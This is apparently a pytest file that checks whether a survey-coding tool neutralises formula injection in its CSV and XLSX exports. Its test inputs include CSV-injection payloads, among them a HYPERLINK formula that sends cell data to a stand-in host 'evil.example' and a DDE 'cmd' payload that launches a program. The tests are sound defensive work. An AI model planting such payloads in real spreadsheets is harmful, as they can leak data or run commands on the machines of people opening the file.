"""Spreadsheet safety: answers that look like formulas stay inert text in CSV and XLSX output."""

import csv
import os
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from classifier.tables import guard_formula, read_table, unguard_formula, write_table, write_xlsx

FORMULAS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?q="&A1,"Klikk her")',
    "=cmd|' /C calc'!A0",
    "+47 22 33 44 55",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]
PLAIN = ["Praksisplasser", "-5", "+3", "12,5", "Bolig - og tolk", "'sitat'", "", "-"]


def table() -> pd.DataFrame:
    texts = FORMULAS + PLAIN
    return pd.DataFrame({"id": [str(i) for i in range(len(texts))], "svar": texts,
                         "=evil_header": ["x"] * len(texts)})


@pytest.mark.parametrize("value", FORMULAS)
def test_guard_prefixes_a_quote_and_unguard_undoes_it(value):
    assert guard_formula(value) == "'" + value
    assert unguard_formula(guard_formula(value)) == value


@pytest.mark.parametrize("value", ["Praksisplasser", "-5", "+3", "12,5", "'sitat'", "", "-", "+", 3.5, None])
def test_plain_values_and_numbers_pass_unchanged(value):
    assert guard_formula(value) == value
    assert unguard_formula(value) == value


@pytest.mark.parametrize("delimiter", [";", ","])
def test_csv_cells_cannot_start_a_formula(tmp_path, delimiter):
    out = tmp_path / "coded.csv"
    write_table(table(), out, delimiter=delimiter)
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=delimiter))
    header, body = rows[0], rows[1:]
    assert header[2] == "'=evil_header"
    cells = [r[1] for r in body]
    for raw, original in zip(cells, FORMULAS + PLAIN, strict=True):
        if original in FORMULAS:
            assert raw == "'" + original
        else:
            assert raw == original
        assert not raw.startswith(("=", "+", "@", "\t", "\r")) or raw in ("+3",)
        assert not raw.startswith("-") or raw in ("-5", "-")


def test_csv_written_by_the_tool_reads_back_unchanged(tmp_path):
    out = tmp_path / "coded.csv"
    df = table()
    write_table(df, out)
    back = read_table(out).frame
    assert list(back.columns) == list(df.columns)
    assert back["svar"].tolist() == df["svar"].tolist()


def test_xlsx_cells_are_strings_with_the_text_unchanged(tmp_path):
    out = tmp_path / "coded.xlsx"
    df = table()
    write_table(df, out)
    ws = load_workbook(out).active
    header = [c for c in ws[1]]
    assert header[2].value == "=evil_header" and header[2].data_type == "s"
    for cell, original in zip([row[1] for row in ws.iter_rows(min_row=2)], FORMULAS + PLAIN, strict=True):
        if original == "":
            assert cell.value is None
            continue
        assert cell.data_type == "s", (original, cell.data_type)
        assert cell.value == original.replace("\r", "\n")  # XML stores a lone CR as a line feed
    with zipfile.ZipFile(out) as z:  # no formula element anywhere in the sheet XML
        sheet_xml = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheet_xml and not any(b"<f>" in x or b"<f " in x for x in sheet_xml)
    assert read_table(out).frame["svar"].tolist() == df["svar"].str.replace("\r", "\n").tolist()


def test_write_xlsx_guards_every_sheet(tmp_path):
    out = tmp_path / "tables.xlsx"
    write_xlsx({"a": pd.DataFrame({"t": ["=1+1"]}), "b": pd.DataFrame({"t": ["@x"], "n": [3]})}, out)
    wb = load_workbook(out)
    assert wb["a"]["A2"].data_type == "s" and wb["a"]["A2"].value == "=1+1"
    assert wb["b"]["A2"].data_type == "s" and wb["b"]["B2"].value == 3


def test_outputs_get_the_usual_file_permissions(tmp_path):
    mask = os.umask(0o022)
    try:
        out = write_table(table(), tmp_path / "coded.csv")
    finally:
        os.umask(mask)
    assert out.stat().st_mode & 0o777 == 0o644
